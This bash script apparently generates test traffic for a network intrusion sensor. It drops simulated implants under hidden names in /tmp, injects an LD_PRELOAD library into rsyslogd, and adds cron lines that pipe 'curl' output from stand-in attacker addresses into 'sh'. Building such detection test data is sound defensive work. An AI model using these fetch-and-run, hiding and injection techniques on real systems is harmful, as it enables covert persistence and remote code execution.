#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# Records the implants of Tests/Implants with the real sensor, each as a trace of its own.
#
# Usage: scripts/record-implants.sh [--binary PATH] [--backend NAME] [--minutes N]
#                  [--only REGEX] OUTPUT
#
#   --binary    the sensor; default .build/release/halfwire
#   --backend   default auto
#   --minutes   how long the slow ones run; default 15
#   --only      stories whose name matches this; default all
#   OUTPUT      a directory; gets NAME.trace for every story, the whole recording and the live
#               findings
#
# The sensor runs as "halfwire run --record", so the live findings are there too. Nothing leaves
# the two network namespaces of the laboratory (scripts/lab.sh). Needs root, python3, perl, curl,
# openssl, gcc, socat and Debian's cron and rsyslog. What a story means is said in traces/README.md.
set -euo pipefail

root="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
# shellcheck source=scripts/checks.sh
source "$root/scripts/checks.sh"
# shellcheck source=scripts/lab.sh
source "$root/scripts/lab.sh"
# shellcheck source=scripts/lab-recording.sh
source "$root/scripts/lab-recording.sh"
read_recording_options "$@"

# The whole is read before it runs, so the file may change meanwhile.
record() {
  open_lab implants
  open_internet $((minutes * 60 + 120))
  for flavour in implant preload; do
    options=(-std=gnu11 -O2)
    [[ $flavour == implant ]] && options+=(-static -o "$lab/implant") ||
      options+=(-shared -fPIC -o "$lab/preload.so")
    gcc "${options[@]}" "$lab/$flavour.c"
  done
  # Random names in directories that anybody can write to; the laboratory removes them.
  hidden() { mktemp -u "$1/.XXXXXXXX"; }
  drop() { # file, directory; prints where the copy is
    local place
    place="$(hidden "$2")"
    cp "$lab/$1" "$place"
    chmod 755 "$place"
    echo "$place" >>"$lab/dropped"
    echo "$place"
  }
  # shellcheck disable=SC2317  # called by the trap
  remove_dropped() { xargs -r rm -f <"$lab/dropped" || true; }
  trap 'remove_dropped; close_lab' EXIT
  : >"$lab/dropped"

  start_recording
  slow=$((minutes * 60)) began=$SECONDS
  python="$(readlink -f /usr/bin/python3)"
  c2=203.0.113.9

  # The clock of most of them: 5 s, 20 % more or less; 40 visits take a little over 3 minutes.
  begin beacon-60s "$(drop implant /tmp)" -n $((minutes)) -p 60 -j 0.2 $c2:8080
  begin one-way-http "$(drop implant /var/tmp)" -n $((slow / 80)) -p 80 -j 0.5 -b 60000 -f push \
    198.51.100.7:80
  begin one-way-tls "$python" "$(drop implant.py /var/tmp)" --way silent --tls \
    --visits $((slow / 70)) --period 70 --jitter 0.5 --bytes 20000 198.51.100.8:443
  cron_story cron-curl-shell "* * * * * nobody curl -fsS -m 10 http://203.0.113.21/i | sh"
  cron_story cron-curl-dropper "* * * * * nobody curl -fsS -m 10 http://203.0.113.22/u | sh"
  begin rotate-8 "$(drop implant /tmp)" -n 110 -p 5 198.51.100.{16..23}:80

  begin static "$(drop implant /tmp)" -n 40 $c2:80
  begin python "$python" "$(drop implant.py /tmp)" --visits 40 $c2:80
  begin perl /usr/bin/perl "$(drop implant.pl /var/tmp)" $c2 80 40
  begin bash-dev-tcp /bin/bash -c "$(sed '/^#/d' "$lab/implant.sh")" worker $c2 80 40
  begin long-tls "$python" "$(drop implant.py /tmp)" --way long-tls --visits 40 \
    --name cdn-sync.example.com 203.0.113.12:443
  begin tls-short "$python" "$(drop implant.py /dev/shm)" --way tls --visits 40 203.0.113.13:443
  wait_for static python perl bash-dev-tcp long-tls tls-short

  for padding in 20 50 100; do
    begin "padding-$padding" "$(drop implant /tmp)" -n 40 -g "$(bc_ratio $padding)" $c2:80
  done
  begin refused "$(drop implant /tmp)" -n 40 $c2:4444
  begin proxy-connect "$python" "$(drop implant.py /tmp)" --way proxy --visits 40 \
    --proxy 10.77.0.3:3128 --name cdn-sync.example.com 203.0.113.12:443
  # Through a forwarder on this host, which takes every connection by a fork of its own.
  begin forwarder /bin/bash -c "socat TCP-LISTEN:9050,bind=127.0.0.1,fork,reuseaddr TCP:$c2:80 &
  passer=\$!; sleep 1; $(drop implant /tmp) -n 40 127.0.0.1:9050; kill \$passer"
  begin missing-third "$(drop implant /tmp)" -n 75 -m 0.33 $c2:80
  begin hidden-browsing "$python" "$(drop implant.py /tmp)" --way browse --visits 60 \
    --sites 203.0.113.{40..50}:80 -- $c2:80
  begin tasks "$python" "$(drop implant.py /tmp)" --way tasks --visits 40 $c2:80
  # A new process each visit, from one file and from a new random name every time.
  place="$(drop implant /tmp)"
  begin new-process /bin/bash -c "for i in {1..40}; do $place -n 1 $c2:80; \
  sleep \$((4 + RANDOM % 2)).\$((RANDOM % 10)); done"
  begin new-names /bin/bash -c "for i in {1..40}; do f=\$(mktemp /tmp/.XXXXXXXX); cp $place \$f; \
  chmod 755 \$f; \$f -n 1 203.0.113.20:80; rm -f \$f; \
  sleep \$((4 + RANDOM % 2)).\$((RANDOM % 10)); done"
  begin_unit preload rsyslog.service /usr/bin/env LD_PRELOAD="$lab/preload.so" \
    IMPLANT_ADDRESS=203.0.113.20:8080 IMPLANT_VISITS=40 \
    /usr/sbin/rsyslogd -n -f "$lab/rsyslog-plain.conf" -i "$lab/rsyslog-preload.pid"
  wait_for padding-20 padding-50 padding-100 refused proxy-connect forwarder \
    new-process new-names tasks

  begin tls-upload "$python" "$(drop implant.py /tmp)" --way upload --bytes 6000000 \
    --name files.example.net 203.0.113.37:443
  begin excess-post "$python" "$(drop implant.py /tmp)" --way post --visits 12 --period 10 \
    --jitter 0.8 --bytes 700000 203.0.113.40:80
  begin binary-on-443 "$(drop implant /tmp)" -n 6 -p 9 -j 0.9 -f binary 203.0.113.14:443
  begin http-on-53 "$(drop implant /tmp)" -n 6 -p 9 -j 0.9 203.0.113.14:53
  begin tls-on-22 "$python" "$(drop implant.py /tmp)" --way tls --visits 6 --period 9 --jitter 0.9 \
    203.0.113.15:22
  begin_stray stray-inside 10.77.0.13 "$python" "$lab/stray.py" 10.77.0.13 192.0.2.10 60
  begin_stray stray-outside 203.0.113.18 "$python" "$lab/stray.py" 203.0.113.18 192.0.2.10 60
  wait_for tls-upload excess-post binary-on-443 http-on-53 tls-on-22 hidden-browsing missing-third
  until ((SECONDS >= began + slow)); do sleep 1; done
  end_recording
  cut_stories
}
record
exit 0
